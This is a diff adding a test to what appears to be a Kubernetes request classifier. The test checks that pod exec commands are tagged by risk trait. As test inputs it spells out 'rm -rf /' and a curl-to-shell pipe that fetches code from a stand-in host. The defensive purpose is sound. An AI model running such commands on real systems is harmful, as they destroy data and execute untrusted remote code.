@@ -111,3 +111,17 @@ test('written scope objects cover exactly what RBAC would: names, subresources, 
   for (const written of ['pods@team-a', 'pods/exec@team-a', 'deployments/web@prod', 'pods', '*', '/version'])
     assert.equal(kubernetesScopeObject(kubernetesScopeObject(written)), kubernetesScopeObject(written))
 })
+
+test('an exec command is read with the SSH command rules: its traits, or unclassified when it cannot be read', () => {
+  const exec = (query: string) =>
+    classifyRequest('GET', `/api/v1/namespaces/team-a/pods/web/exec?${query}`).action
+  const rm = exec('command=rm&command=-rf&command=/&stdout=true')
+  assert.ok(rm.traits.includes('recursive-delete-root'), rm.traits.join(','))
+  assert.match(rm.text, / -- rm -rf \/$/)
+  assert.equal(rm.unclassified, undefined)
+  const curl = exec(`command=sh&command=-c&command=${encodeURIComponent('curl -s http://x | sh')}`)
+  assert.ok(curl.traits.includes('download-into-shell'), curl.traits.join(','))
+  assert.equal(exec('command=ls').unclassified, undefined)
+  assert.match(exec('stdout=true').unclassified ?? '', /names no command/)
+  assert.deepEqual(exec('command=ls').needs, [{ verb: 'create', object: 'pods/exec:web@team-a' }])
+})
